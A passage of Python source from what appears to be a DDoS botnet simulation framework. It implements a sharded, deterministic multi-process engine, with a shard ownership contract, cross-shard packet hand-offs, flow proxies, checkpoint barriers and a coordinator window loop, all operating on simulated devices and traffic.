  rank owns the star hub, Attacker, TServer and the orchestrator; worker
  rank ``r`` owns Dev containers ``i`` with ``i % W == r - 1``.
* **Single cut point.**  :meth:`PointToPointChannel.transmit` hands
  packets crossing a shard boundary to a per-link :class:`_LinkBridge`
  after all sender-side accounting ran; the owning rank schedules the
  receive at the exact ``now + delay`` float the single-process path
  would have used.
* **Conservative windows.**  The coordinator grants aligned execution
  windows bounded by ``min(all horizons) + lookahead``; cross-shard
  hand-offs are sorted by a deterministic ``(arrival, lane, seq)`` key
  so same-instant deliveries replay identically run after run.
* **Byte-identical results.**  Counters merge exactly (integer sums),
  replicated events are *neutral* (they refund ``events_executed``),
  remote container state is patched back before collection — so the
  result JSON and metrics snapshot of ``--shards N`` match ``--shards
  1`` byte for byte.  Equal-time cross-device event orderings may differ
  between ranks and the single process; those orderings are invisible in
  results (aggregate counters, per-device RNG streams) by construction.
* **Composable checkpoints.**  Window bounds clamp to checkpoint ticks;
  at each barrier every rank fingerprints its replica and the
  coordinator writes one composed ``rank{r}/{subsystem}`` tree, so
  ``repro chaos`` kill/resume round-trips work for sharded runs too.

Restrictions (validated up front): the default star topology only, no
``loss_rate`` fault overrides (per-packet Bernoulli draws cannot be
partitioned), no instrumented observatory (tracer/profiler are
per-process), and the announcement lead times (``attack_settle_delay``,
``attack_duration + cooldown``) must exceed four lookaheads.
"""

from __future__ import annotations

import os
import resource
import signal
from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Tuple

from repro.obs.metrics import MetricsRegistry, NULL_INSTRUMENT
from repro.obs.observatory import Observatory


class ShardError(RuntimeError):
    """Sharded-engine configuration or runtime failure."""


class ShardProtocolError(ShardError):
    """A rank violated the ownership protocol (e.g. transmitted on a
    link direction it does not own)."""


#: Machine-readable shard-safety contract — the single source of truth
#: for WHO may touch WHAT across ranks.  Two consumers, one literal:
#:
#: * the static analyzer (``repro.simlint.shardcheck``, rules
#:   SIM201–SIM205) reads it with ``ast.literal_eval`` — it never
#:   imports the code it lints — so every value below must stay a pure
#:   literal (no names, calls, or comprehensions);
#: * the runtime :class:`~repro.simlint.runtime.ShardAccessAuditor`
#:   imports it directly to tag owned objects per rank.
#:
#: Patterns use the ``repro.simlint.symbols`` match syntax:
#: ``"pkg.mod:Class.method"`` (exact, nested defs included via prefix),
#: ``"Class.method"`` (any module) or ``"Class"`` (whole class).
SHARD_CONTRACT = {
    "version": 1,
    # Execution roots.  ``worker_roots`` is everything a worker rank
    # actually *executes*: the serve loop (which schedules hand-off
    # receives into the dev-side datapath), the replicated neutral
    # events, and the event code of worker-owned components (bots,
    # exploited services, container processes).  ``build_roots`` is the
    # replicated build phase, which runs identically on every rank and
    # is therefore exempt from ownership checks.
    "worker_roots": [
        "repro.netsim.shard:_ShardWorker.serve",
        "repro.netsim.shard:_ShardWorker._probe",
        "repro.netsim.shard:_ShardWorker._apply_static_churn",
        "repro.netsim.shard:_ShardWorker._final_payload",
        "repro.core.churn:DynamicChurn.start.epoch",
        "repro.faults:FaultInjector._acts",
        "repro.botnet.bot:mirai_program",
        "repro.botnet.bot:_dispatch",
        "repro.container.process:ContainerProcess",
    ],
    "coordinator_roots": [
        "repro.netsim.shard:ShardCoordinator.run",
        "repro.netsim.shard:ShardCoordinator._window_loop",
    ],
    "build_roots": [
        "repro.netsim.shard:_ShardWorker.__init__",
        "repro.core.framework:DDoSim.build",
    ],
    # The only legal cross-rank channels.  Functions matching these
    # patterns may touch state they do not own: that is their job.
    "handoff_channels": [
        "repro.netsim.shard:_LinkBridge",
        "repro.netsim.shard:_FlowProxy",
        "repro.netsim.shard:_MutedRegistry",
        "repro.netsim.shard:_ShardWorker._final_payload",
        "repro.netsim.shard:ShardCoordinator",
    ],
    # Rank-0-owned object surfaces, by the attribute names worker code
    # would reach them through (SIM201 seeds its taint on reads of
    # these).  ``star`` totals are read-only on workers; mutation of
    # any of these outside a hand-off channel is a violation.
    "rank0_owned_attrs": [
        "flow_engine", "orchestrator", "attacker", "tserver", "star",
    ],
    # Method names that mutate their receiver (for SIM201's "call on an
    # owned object" check; attribute/subscript stores always count).
    "mutating_methods": [
        "start_flow", "stop_flow", "start", "stop", "arm", "inject",
        "schedule", "send", "set", "inc", "dec", "observe", "append",
        "push", "add", "clear", "update", "pop",
    ],
    # Counter families that replay on EVERY rank (replicated churn
    # epochs, fault records): workers mute them so only the parent's
    # copy counts.  SIM203 rejects any increment of these outside the
    # declared replicated sites — such an increment would exist only on
    # worker ranks and silently vanish from the merged snapshot.
    "worker_muted_counters": [
        "churn_departures_total",
        "churn_rejoins_total",
        "faults_injected_total",
    ],
    # Code that runs IDENTICALLY on all ranks (replicated schedules):
    # its draws and muted-counter increments are parent-authoritative.
    "replicated_sites": [
        "repro.core.churn:StaticChurn",
        "repro.core.churn:DynamicChurn",
        "repro.core.churn:_ChurnBase",
        "repro.faults:FaultInjector",
        "repro.netsim.shard:_ShardWorker",
    ],
    # Gauge/histogram families the merge patch deliberately does NOT
    # ship (gauges never sum).  Each entry must say why the parent's
    # copy is already exact; SIM203 flags any unlisted family mutated
    # on a worker path.
    "unmerged_families_ok": {
        "devs_online": "replicated churn: every rank applies the same "
                       "epochs, parent copy is the fleet truth",
        "bots_connected": "C&C runs on rank 0; connects are seen there",
        "distinct_recruits": "C&C-side gauge, rank 0 only",
        "tserver_rx_bytes_total": "TServer sink is rank-0-owned",
        "container_memory_bytes": "worker container state is patched "
                                  "back before export (_finalize)",
        "active_flows": "flow engine is rank-0-owned; workers proxy",
    },
    # Named RNG streams (the ``-suffix`` of random.Random(f"{seed}-X"))
    # that may legally be drawn during partitioned execution: either
    # the draw schedule is replicated on every rank, or the stream is
    # per-device and only the owning rank draws it.
    "partitioned_streams_ok": [
        "churn", "faults", "faults-loss", "credentials", "wifi",
    ],
    # Module-level names that may be mutated from both coordinator- and
    # worker-reachable code (SIM202).  Empty: there is no such state.
    "shared_globals_ok": [],
    # Every replicated/neutral event function: it MUST refund the
    # ``events_executed`` slot it consumed (SIM205 checks both
    # directions — a listed function without the decrement, and a
    # decrement in an unlisted function).
    "neutral_events": [
        "repro.core.churn:DynamicChurn.start.epoch",
        "repro.faults:FaultInjector._arm_churn.apply_neutral",
        "repro.faults:FaultInjector._inject",
        "repro.faults:FaultInjector._clear",
        "repro.checkpoint:CheckpointWriter._tick",
        "repro.netsim.shard:_ShardWorker._apply_static_churn",
        "repro.netsim.shard:_ShardWorker._probe",
        "repro.netsim.shard:ShardCoordinator._apply_flow_op",
    ],
    # Objects the runtime auditor guards on worker ranks: any attribute
    # write to them after build is an ownership violation.
    "rank0_guarded_attrs": ["flow_engine"],
}

#: counter families muted on workers — derived from the contract so the
#: analyzer and the registry can never disagree.
_WORKER_MUTED = frozenset(SHARD_CONTRACT["worker_muted_counters"])

#: lane direction indices (second element of a lane tuple)
_LANE_UP = 0    # dev host -> star router (worker -> parent)
_LANE_DOWN = 1  # star router -> dev host (parent -> worker)


def _default_handoff_key(entry) -> tuple:
    """Deterministic cross-shard delivery order: (arrival, lane, seq)."""
    return (entry[0], entry[1], entry[2])


def _rss_kib() -> int:
    """This process's peak RSS in KiB (Linux ``ru_maxrss`` unit)."""
    return int(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)


class _MutedRegistry(MetricsRegistry):
    """Worker-rank registry: muted families hand out the null instrument
    (and are therefore absent from the worker's snapshot), everything
    else behaves normally.  ``NULL_INSTRUMENT.labels()`` returns itself,
    which also covers the labeled ``faults_injected_total`` family.

    With a :class:`~repro.simlint.runtime.ShardAccessAuditor` attached,
    muted families hand out a recording no-op instead, so increments
    reaching them from non-replicated code are reported with their call
    site (the runtime leg of SIM203)."""

    def __init__(self, auditor=None):
        super().__init__()
        self._auditor = auditor

    def counter(self, name, help="", labels=()):
        if name in _WORKER_MUTED:
            if self._auditor is not None:
                return self._auditor.muted_instrument(name)
            return NULL_INSTRUMENT
        return super().counter(name, help=help, labels=labels)


class _LinkBridge:
    """Shard boundary for one access link.

    Installed as ``channel.shard_bridge``; :meth:`carry` runs instead of
    the local receive scheduling.  ``local_sender`` is the only device
    this rank may transmit from on this link (None poisons the link —
    any transmit is a protocol violation).  Every carried packet gets a
    per-lane monotonic sequence number; ``(arrival, lane, seq)`` is the
    deterministic hand-off identity used for cross-shard ordering."""

    __slots__ = ("channel", "local_sender", "lane", "outbox", "seq")

    def __init__(self, channel, local_sender, lane: Tuple[int, int],
                 outbox: list):
        self.channel = channel
        self.local_sender = local_sender
        self.lane = lane
        self.outbox = outbox
        self.seq = 0
        channel.shard_bridge = self

    def carry(self, channel, sender, packet) -> None:
        if sender is not self.local_sender:
            name = getattr(sender, "name", repr(sender))
            raise ShardProtocolError(
                f"rank transmitted from unowned device {name} on lane "
                f"{self.lane}"
            )
        self.seq += 1
        arrival = channel.sim.now + channel.delay
        # The outbox list is shared by reference with the rank's serve
        # loop: append-only here, drained (copy + clear, never rebound)
        # at each window boundary.
        self.outbox.append((arrival, self.lane, self.seq, packet))


class _StubFlow:
    """What a worker-side bot holds after ``start_flow``: the real
    :class:`FluidFlow` lives on the parent rank, so the stub's offered
    totals stay zero — the parent reconstructs the bot's emission stats
    from the real flow at stop time."""

    __slots__ = ("key",)
    offered_packets = 0

    def __init__(self, key):
        self.key = key


class _FlowProxy:
    """Worker-rank stand-in for ``sim.flows``.

    Bots on worker-owned Devs call ``start_flow``/``stop_flow``; the
    proxy records the operation (with its exact virtual time and a
    deterministic ``(dev_index, flow_seq)`` key) for the coordinator to
    replay on the parent's real :class:`FlowEngine` at the same instant.
    Link-change epochs are no-ops here — all fluid state is parent-side.
    """

    def __init__(self, dev_index_of: Dict[int, int]):
        #: id(node) -> dev index for op attribution
        self._dev_index_of = dev_index_of
        self._flow_seq = 0
        self.ops: List[tuple] = []
        self._sim = None

    def bind(self, sim) -> "_FlowProxy":
        self._sim = sim
        sim.flows = self
        return self

    def start_flow(self, node, destination, dst_port, src_port, rate_bps,
                   payload_size, packet_size, span=None) -> _StubFlow:
        index = self._dev_index_of.get(id(node))
        if index is None:
            raise ShardProtocolError(
                f"flow started from unowned node {getattr(node, 'name', node)}"
            )
        self._flow_seq += 1
        self.ops.append((
            "start", self._sim.now, index, self._flow_seq, destination,
            dst_port, src_port, rate_bps, payload_size, packet_size, span,
        ))
        return _StubFlow((index, self._flow_seq))

    def stop_flow(self, flow) -> None:
        if not isinstance(flow, _StubFlow):
            raise ShardProtocolError("stop_flow on a non-proxied flow")
        index, flow_seq = flow.key
        self.ops.append(("stop", self._sim.now, index, flow_seq))

    def drain(self) -> List[tuple]:
        ops = list(self.ops)
        self.ops.clear()
        return ops

    # Epoch hooks: fluid state is parent-side; nothing to re-linearize.
    def on_link_change(self) -> None:
        pass

    relinearize = on_link_change

    def flush(self) -> None:
        pass


def _install_bridges(ddosim, outbox: list, rank: int, workers: int) -> None:
    """Wire every Dev access link's shard boundary for this rank.

    Parent (rank 0) owns the router side of every Dev link; worker ``r``
    owns the host side of its Devs' links and poisons everything else
    (non-owned Dev links and the Attacker/TServer links, which carry no
    worker-side traffic by construction)."""
    for dev in ddosim.devs.devs:
        link = dev.link
        if rank == 0:
            _LinkBridge(link.channel, link.router_device,
                        (dev.index, _LANE_DOWN), outbox)
        elif dev.index % workers == rank - 1:
            _LinkBridge(link.channel, link.host_device,
                        (dev.index, _LANE_UP), outbox)
        else:
            _LinkBridge(link.channel, None, (dev.index, _LANE_UP), outbox)
    if rank != 0:
        _LinkBridge(ddosim.attacker.link.channel, None, (-1, _LANE_UP), outbox)
        _LinkBridge(ddosim.tserver.link.channel, None, (-2, _LANE_UP), outbox)


def shard_lookahead(config, plan=None) -> float:
    """The engine's conservative lookahead: the minimum propagation delay
    any cross-shard lane can ever have, including ``link_degrade`` delay
    overrides a fault plan may apply mid-run."""
    lookahead = config.dev_link_delay
    if plan is not None:
        for spec in plan.faults:
            if spec.kind == "link_degrade" and spec.delay is not None:
                lookahead = min(lookahead, spec.delay)
    return lookahead


def validate_shard_config(config, shards: int, observatory=None) -> float:
    """Up-front rejection of configurations the sharded engine cannot
    reproduce byte-identically.  Returns the lookahead."""
    if shards < 2:
        raise ShardError(f"sharded engine needs shards >= 2, got {shards}")
    if observatory is not None and observatory.instrumented:
        raise ShardError(
            "sharded runs cannot use an instrumented observatory "
            "(tracer/profiler are per-process); drop --trace-out"
        )
    plan = config.faults
    if plan is not None:
        for spec in plan.faults:
            if spec.loss_rate is not None and spec.loss_rate > 0.0:
                raise ShardError(
                    "loss_rate fault overrides draw per-packet randomness "
                    "from a shared stream and cannot be sharded"
                )
    lookahead = shard_lookahead(config, plan)
    if lookahead <= 0.0:
        raise ShardError(
            "sharded engine needs a positive minimum link delay "
            f"(lookahead), got {lookahead}"
        )
    margin = 4.0 * lookahead
    if config.attack_settle_delay <= margin:
        raise ShardError(
            f"attack_settle_delay {config.attack_settle_delay} must exceed "
            f"4x lookahead ({margin}) for probe announcements"
        )
    if config.attack_duration + config.cooldown <= margin:
        raise ShardError(
            f"attack_duration + cooldown must exceed 4x lookahead ({margin}) "
            "for stop announcements"
        )
    return lookahead


# ----------------------------------------------------------------------
# Worker rank
# ----------------------------------------------------------------------
class _ShardWorker:
    """One worker rank: a full DDoSim replica, executing only the events
    of its owned Devs, driven in windows by the coordinator."""

    def __init__(self, conn, config, rank: int, workers: int,
                 audit: bool = False):
        self.conn = conn
        self.rank = rank
        self.workers = workers
        self.auditor = None
        if audit:
            from repro.simlint.runtime import ShardAccessAuditor

            self.auditor = ShardAccessAuditor(rank, contract=SHARD_CONTRACT)
        from repro.core.framework import DDoSim

        self.ddosim = DDoSim(
            config,
            observatory=Observatory(metrics=_MutedRegistry(self.auditor)),
        )
        self.sim = self.ddosim.sim
        self.outbox: List[tuple] = []
        self.probe_values: List[Tuple[float, int]] = []
        self.ddosim.build()
        devs = self.ddosim.devs
        self.owned = [
            dev for dev in devs.devs if dev.index % workers == rank - 1
        ]
        self.proxy = None
        if self.ddosim.flow_engine is not None:
            self.proxy = _FlowProxy(
                {id(dev.node): dev.index for dev in self.owned}
            ).bind(self.sim)
        _install_bridges(self.ddosim, self.outbox, rank, workers)
        for dev in self.owned:
            self.ddosim.runtime.start(dev.container)
        # Replicated churn: same draws, same link toggles on every rank;
        # neutral events so only the parent's count survives the merge.
        if self.ddosim.static_churn is not None:
            self.sim.schedule(0.05, self._apply_static_churn)
        if self.ddosim.dynamic_churn is not None:
            self.ddosim.dynamic_churn.start(
                self.sim, devs.set_device_online,
                until=config.sim_duration, neutral=True,
            )
        injector = self.ddosim.fault_injector
        if injector is not None:
            injector.event_neutral = True
            owned_names = frozenset(dev.name for dev in self.owned)
            injector.action_gate = (
                lambda kind, name: name in owned_names
            )
            injector.arm()
        if self.auditor is not None:
            # Build is replicated and done; from here on, any write to a
            # rank-0-owned object on this rank is a contract violation.
            for attr in SHARD_CONTRACT["rank0_guarded_attrs"]:
                owned_obj = getattr(self.ddosim, attr, None)
                if owned_obj is not None:
                    self.auditor.guard(owned_obj, attr)

    def _apply_static_churn(self) -> None:
        self.sim.events_executed -= 1
        self.ddosim.static_churn.apply(
            self.sim, self.ddosim.devs.set_device_online
        )

    def _probe(self, at: float) -> None:
        """Replicated memory probe: owned running containers' RSS at the
        exact announced instant (neutral event)."""
        self.sim.events_executed -= 1
        self.probe_values.append(
            (at, self.ddosim.runtime.total_memory_bytes())
        )

    def serve(self) -> None:
        """The window protocol: strict go/done alternation until EOF."""
        conn = self.conn
        conn.send(("ready", self.rank, self.sim.peek_next_time()))
        devs = self.ddosim.devs.devs
        while True:
            try:
                message = conn.recv()
            except EOFError:
                return  # coordinator gone (chaos kill / shutdown)
            kind = message[0]
            if kind == "go":
                _, window, bound, inclusive, handoffs, probes = message
                for at in probes:
                    self.sim.schedule_bare_at(at, self._probe, at)
                for arrival, lane, _seq, packet in handoffs:
                    receiver = devs[lane[0]].link.host_device
                    self.sim.schedule_bare_at(
                        arrival, receiver.receive, packet
                    )
                self.sim.advance_until(bound, inclusive)
                out = list(self.outbox)
                self.outbox.clear()
                ops = self.proxy.drain() if self.proxy is not None else []
                values = list(self.probe_values)
                self.probe_values.clear()
                conn.send((
                    "done", window, out, ops, values,
                    self.sim.peek_next_time(),
                ))
            elif kind == "fingerprint":
                from repro.checkpoint import capture_fingerprint

                conn.send((
                    "fp", message[1], capture_fingerprint(self.ddosim),
                    self.sim.events_executed,
                ))
            elif kind == "finish":
                conn.send(("final", self.rank, self._final_payload()))
                return
            else:  # pragma: no cover - defensive
                raise ShardProtocolError(f"unknown message {kind!r}")

    def _final_payload(self) -> dict:
        ddosim = self.ddosim
        owned_names = [dev.name for dev in self.owned]
        return {
            "offered": ddosim.devs.total_offered_attack(),
            "queue_drops": ddosim.star.total_queue_drops(),
            "containers": {
                name: (
                    ddosim.runtime.containers[name].state,
                    ddosim.runtime.containers[name].memory_bytes(),
                )
                for name in owned_names
            },
            "counters": ddosim.obs.metrics.snapshot()["counters"],
            "events": ddosim.sim.events_executed,
            "rss_kib": _rss_kib(),
            "audit": None if self.auditor is None else self.auditor.report(),
        }


def _shard_worker_main(conn, all_pipes, config, rank: int,
                       workers: int, audit: bool = False) -> None:
    """Worker process entry point.

    ``all_pipes`` is every (parent_end, child_end) pair the coordinator
    created; the forked child inherited them all, and any end left open
    here would keep a sibling's — or the coordinator's — pipe alive
    after its owner dies, turning crash detection (EOFError on recv)
    into a deadlock.  Close everything except our own child end first.
    """
    for parent_end, child_end in all_pipes:
        parent_end.close()
        if child_end is not conn:
            child_end.close()
    worker = None
    try:
        worker = _ShardWorker(conn, config, rank, workers, audit=audit)
        worker.serve()
    except EOFError:
        pass
    except BaseException as error:  # ship the failure before dying
        if worker is not None:
            recorder = worker.ddosim.obs.recorder
            if recorder is not None and recorder.enabled:
                recorder.dump("shard.worker_error", worker.sim.now,
                              rank=rank, error=repr(error))
        import traceback

        try:
            conn.send(("err", rank, traceback.format_exc(), _rss_kib()))
        except (OSError, BrokenPipeError):
            pass
    finally:
        conn.close()


# ----------------------------------------------------------------------
# Coordinator (parent rank)
# ----------------------------------------------------------------------
@dataclass
class ShardCheckpointLog:
    """Writer-shaped record of a sharded run's checkpoint activity."""

    directory: str
    every: float
    written: List[int] = field(default_factory=list)
    verified: List[int] = field(default_factory=list)


@dataclass
class ShardedRun:
    """A completed sharded (or degenerate single-process) run."""

    result: object
    ddosim: object
    stats: dict
    writer: Optional[object] = None


class ShardCoordinator:
    """Rank 0: owns hub/Attacker/TServer/orchestrator, grants windows,
    relays hand-offs, merges worker state back for collection."""

    def __init__(self, config, shards: int, *, observatory=None,
                 checkpoint_dir: Optional[str] = None,
                 checkpoint_every: Optional[float] = None,
                 kill_after: Optional[int] = None,
                 expected_fingerprints=None,
                 handoff_key: Optional[Callable] = None,
                 record_sync_trace: bool = False,
                 audit: bool = False):
        self.config = config
        self.shards = shards
        self.audit = audit
        self.lookahead = validate_shard_config(config, shards, observatory)
        self.workers = min(shards - 1, config.n_devs)
        if self.workers < 1:
            raise ShardError("sharded engine needs at least one Dev")
        self.handoff_key = handoff_key or _default_handoff_key
        self.record_sync_trace = record_sync_trace
        self.sync_trace: List[str] = []
        self.kill_after = kill_after
        self.expected = dict(expected_fingerprints or {})
        self.writer_log = None
        self._ticks: List[Tuple[int, float]] = []
        if checkpoint_dir is not None:
            if not checkpoint_every or checkpoint_every <= 0:
                raise ShardError(
                    "checkpoint_dir needs a positive checkpoint_every"
                )
            self.writer_log = ShardCheckpointLog(
                checkpoint_dir, float(checkpoint_every)
            )
            tick = 1
            while tick * checkpoint_every < config.sim_duration:
                self._ticks.append((tick, tick * checkpoint_every))
                tick += 1
        # Announcement state (filled by orchestrator hooks mid-window).
        self._pending_probes: List[float] = []
        self._stop_time: Optional[float] = None
        self._remote_probe: Dict[float, int] = {}
        # Flow-op replay state.
        self._remote_flows: Dict[Tuple[int, int], object] = {}
        self._remote_flow_packets = 0
        self._remote_flow_bytes = 0
        # Hand-off bookkeeping.
        self.outbox: List[tuple] = []
        self._pending_down: Dict[int, List[tuple]] = {
            rank: [] for rank in range(1, self.workers + 1)
        }
        self.stats = {
            "shards": shards,
            "workers": self.workers,
            "lookahead": self.lookahead,
            "sync_rounds": 0,
            "handoffs_up": 0,
            "handoffs_down": 0,
            "flow_ops": 0,
            "worker_rss_kib": {},
        }
        self._conns: Dict[int, object] = {}
        self._procs: Dict[int, object] = {}
        self._horizons: Dict[int, Optional[float]] = {}
        self.ddosim = None
        self._observatory = observatory

    # -- orchestrator hooks (called from inside parent sim events) -----
    def announce_probe(self, at: float) -> None:
        self._pending_probes.append(at)

    def announce_stop(self, at: float) -> None:
        self._stop_time = at

    # -- transport ------------------------------------------------------
    def _spawn_workers(self) -> None:
        from repro.parallel import _mp_context

        ctx = _mp_context()
        pipes = [ctx.Pipe(duplex=True) for _ in range(self.workers)]
        for rank in range(1, self.workers + 1):
            parent_conn, child_conn = pipes[rank - 1]
            process = ctx.Process(
                target=_shard_worker_main,
                args=(child_conn, pipes, self.config, rank, self.workers,
                      self.audit),
                daemon=True,
            )
            process.start()
            self._conns[rank] = parent_conn
            self._procs[rank] = process
        for _parent_conn, child_conn in pipes:
            child_conn.close()

    def _recv(self, rank: int):
        try:
            message = self._conns[rank].recv()
        except (EOFError, OSError) as error:
            self._worker_died(rank, repr(error))
        if message[0] == "err":
            self._worker_died(rank, message[2], rss_kib=message[3])
        return message

    def _worker_died(self, rank: int, detail: str, rss_kib=None):
        recorder = getattr(self.ddosim, "obs", None)
        recorder = recorder.recorder if recorder is not None else None
        if recorder is not None and recorder.enabled:
            now = self.ddosim.sim.now if self.ddosim is not None else 0.0
            recorder.note("shard.worker_death", now, rank=rank)
            recorder.dump("shard.worker_death", now, rank=rank,
                          error=detail.splitlines()[-1] if detail else "")
        raise ShardError(
            f"shard worker {rank} died"
            + (f" (peak RSS {rss_kib} KiB)" if rss_kib else "")
            + f":\n{detail}"
        )

    # -- parent-rank setup ---------------------------------------------
    def _build_parent(self) -> None:
        from repro.core.framework import DDoSim
        from repro.netsim.process import SimProcess

        ddosim = DDoSim(self.config, observatory=self._observatory)
        self.ddosim = ddosim
        ddosim.shard_hooks = self
        ddosim.build()
        _install_bridges(ddosim, self.outbox, 0, self.workers)
        ddosim.attacker.start()
        ddosim.tserver.start()
        # Parent runs the same replicated churn/fault schedule as the
        # workers, but NON-neutrally: it is the counting rank.
        if ddosim.static_churn is not None:
            ddosim.sim.schedule(
                0.05, ddosim.static_churn.apply, ddosim.sim,
                ddosim.devs.set_device_online,
            )
        if ddosim.dynamic_churn is not None:
            ddosim.dynamic_churn.start(
                ddosim.sim, ddosim.devs.set_device_online,
                until=self.config.sim_duration,
            )
        injector = ddosim.fault_injector
        if injector is not None:
            injector.action_gate = self._parent_acts
            injector.arm()
        # Pre-attack memory probe: the orchestrator's read at the probe
        # instant must see the whole fleet, so remote (owned, running)
        # container RSS folds into the runtime total at exactly that
        # float timestamp.  Instance patch; removed before final export.
        runtime = ddosim.runtime
        from repro.container.runtime import ContainerRuntime

        base = ContainerRuntime.total_memory_bytes
        remote = self._remote_probe

        def patched_total() -> int:
            return base(runtime) + remote.get(ddosim.sim.now, 0)

        runtime.total_memory_bytes = patched_total
        SimProcess(ddosim.sim, ddosim._orchestrate(), name="orchestrator")

    def _parent_acts(self, kind: str, name: str) -> bool:
        if kind in ("cnc_outage", "sink_stall"):
            return True
        return name == "attacker"

    # -- window protocol -----------------------------------------------
    def _trace(self, window: int, direction: str, entry) -> None:
        if self.record_sync_trace:
            arrival, lane, seq = entry[0], entry[1], entry[2]
            self.sync_trace.append(
                f"w={window:06d} dir={direction} t={arrival:.9f} "
                f"lane={lane[0]}:{lane[1]} seq={seq}"
            )

    def _apply_flow_op(self, op) -> None:
        """Neutral parent event replaying one worker-recorded flow op on
        the real engine at the exact instant the bot issued it."""
        sim = self.ddosim.sim
        sim.events_executed -= 1
        engine = self.ddosim.flow_engine
        if op[0] == "start":
            (_, _t, index, flow_seq, destination, dst_port, src_port,
             rate_bps, payload_size, packet_size, span) = op
            flow = engine.start_flow(
                self.ddosim.devs.devs[index].node, destination, dst_port,
                src_port, rate_bps, payload_size, packet_size, span=span,
            )
            self._remote_flows[(index, flow_seq)] = flow
        else:
            flow = self._remote_flows.get((op[2], op[3]))
            if flow is not None:
                engine.stop_flow(flow)
                # Mirror udp_plain_flow's stats read at stop time:
                # packets_sent = offered_packets, bytes = n * wire size.
                packets = flow.offered_packets
                self._remote_flow_packets += packets
                self._remote_flow_bytes += packets * flow.packet_size

    def _integrate_dones(self, window: int) -> None:
        """Receive every worker's done(window); schedule their hand-offs
        and flow ops into the parent sim; bank probe values/horizons."""
        sim = self.ddosim.sim
        devs = self.ddosim.devs.devs
        up: List[tuple] = []
        ops: List[tuple] = []
        for rank in range(1, self.workers + 1):
            message = self._recv(rank)
            if message[0] != "done" or message[1] != window:
                raise ShardProtocolError(
                    f"worker {rank}: expected done({window}), got {message[:2]}"
                )
            up.extend(message[2])
            ops.extend(message[3])
            for at, value in message[4]:
                self._remote_probe[at] = self._remote_probe.get(at, 0) + value
            self._horizons[rank] = message[5]
        up.sort(key=self.handoff_key)
        for entry in up:
            self._trace(window, "up", entry)
            arrival, lane, _seq, packet = entry
            receiver = devs[lane[0]].link.router_device
            sim.schedule_bare_at(arrival, receiver.receive, packet)
        self.stats["handoffs_up"] += len(up)
        # Worker flow ops interleave at their exact times; sorted by
        # (t, dev_index, flow_seq) so same-instant starts replay in a
        # deterministic order.
        ops.sort(key=lambda op: (op[1], op[2], op[3]))
        for op in ops:
            sim.schedule_bare_at(op[1], self._apply_flow_op, op)
        self.stats["flow_ops"] += len(ops)

    def _advance_parent(self, bound: float, inclusive: bool = False) -> None:
        """Execute the parent's (lagging) window, then route its freshly
        carried packets toward their owning workers."""
        self.ddosim.sim.advance_until(bound, inclusive)
        if self.outbox:
            for entry in self.outbox:
                owner = (entry[1][0] % self.workers) + 1
                self._pending_down[owner].append(entry)
            self.outbox.clear()

    def _compute_bound(self, granted: float) -> float:
        horizon = self.ddosim.sim.peek_next_time()
        low = horizon if horizon is not None else float("inf")
        for value in self._horizons.values():
            if value is not None and value < low:
                low = value
        for entries in self._pending_down.values():
            for entry in entries:
                if entry[0] < low:
                    low = entry[0]
        bound = low + self.lookahead
        if self._ticks:
            bound = min(bound, self._ticks[0][1])
        if self._stop_time is not None:
            bound = min(bound, self._stop_time)
        bound = min(bound, self.config.sim_duration)
        return max(bound, granted)

    def _send_go(self, window: int, bound: float) -> None:
        probes = list(self._pending_probes)
        self._pending_probes.clear()
        for rank in range(1, self.workers + 1):
            batch = self._pending_down[rank]
            batch.sort(key=self.handoff_key)
            for entry in batch:
                self._trace(window, "down", entry)
            self.stats["handoffs_down"] += len(batch)
            self._conns[rank].send(("go", window, bound, False, batch, probes))
            self._pending_down[rank] = []

    def _barrier(self, tick: int, at: float) -> None:
        """Checkpoint barrier: every rank fingerprints at the tick; the
        coordinator composes and persists one rank-prefixed tree."""
        from repro.cache import code_salt
        from repro.checkpoint import (
            CheckpointDivergence,
            capture_fingerprint,
            diff_fingerprints,
            state_digest,
            write_checkpoint,
        )
        from repro.serialization import config_to_dict

        composed: Dict[str, str] = {}
        for key, value in capture_fingerprint(self.ddosim).items():
            composed[f"rank0/{key}"] = value
        total_events = self.ddosim.sim.events_executed
        for rank in range(1, self.workers + 1):
            self._conns[rank].send(("fingerprint", tick))
        for rank in range(1, self.workers + 1):
            message = self._recv(rank)
            if message[0] != "fp" or message[1] != tick:
                raise ShardProtocolError(
                    f"worker {rank}: expected fp({tick}), got {message[:2]}"
                )
            for key, value in message[2].items():
                composed[f"rank{rank}/{key}"] = value
            total_events += message[3]
        expected = self.expected.get(tick)
        if expected is not None:
            mismatched = diff_fingerprints(expected, composed)
            if mismatched:
                raise CheckpointDivergence(tick, mismatched)
            self.writer_log.verified.append(tick)
        payload = {
            "version": 1,
            "code_salt": code_salt(),
            "config": config_to_dict(self.config),
            "every": self.writer_log.every,
            "tick": tick,
            "t": at,
            "shards": self.shards,
            "events_executed": total_events,
            "fingerprint": composed,
            "root": state_digest(composed),
        }
        write_checkpoint(self.writer_log.directory, payload)
        self.writer_log.written.append(tick)
        recorder = self.ddosim.obs.recorder
        if recorder is not None and recorder.enabled:
            recorder.note("checkpoint.write", at, tick=tick, shards=self.shards)
        if self.kill_after is not None and tick == self.kill_after:
            os.kill(os.getpid(), signal.SIGKILL)

    def run(self):
        """Drive the whole sharded run; returns the merged RunResult."""
        self._spawn_workers()
        try:
            self._build_parent()
            for rank in range(1, self.workers + 1):
                message = self._recv(rank)
                if message[0] != "ready":
                    raise ShardProtocolError(
                        f"worker {rank}: expected ready, got {message[0]!r}"
                    )
                self._horizons[rank] = message[2]
            result = self._window_loop()
            return result
        finally:
            for conn in self._conns.values():
                try:
                    conn.close()
                except OSError:
                    pass
            for process in self._procs.values():
                process.join(timeout=5)
                if process.is_alive():  # pragma: no cover - defensive
                    process.terminate()
                    process.join(timeout=5)

    def _window_loop(self):
        sim = self.ddosim.sim
        window = 0
        granted = 0.0
        barrier_tick: Optional[Tuple[int, float]] = None
        while True:
            if window > 0:
                self._integrate_dones(window)
            if barrier_tick is not None:
                tick, at = barrier_tick
                barrier_tick = None
                # Catch the parent up to the tick so the composed tree
                # reflects one consistent virtual instant on every rank.
                self._advance_parent(at)
                self._ticks.pop(0)
                self._barrier(tick, at)
            if self._stop_time is not None and granted >= self._stop_time:
                self._advance_parent(self._stop_time, inclusive=True)
                break
            if granted >= self.config.sim_duration:
                self._advance_parent(self.config.sim_duration, inclusive=True)
                until = self.config.sim_duration
                if not sim._stopped and sim._now < until:
                    sim._now = until
                break
            bound = self._compute_bound(granted)
            window += 1
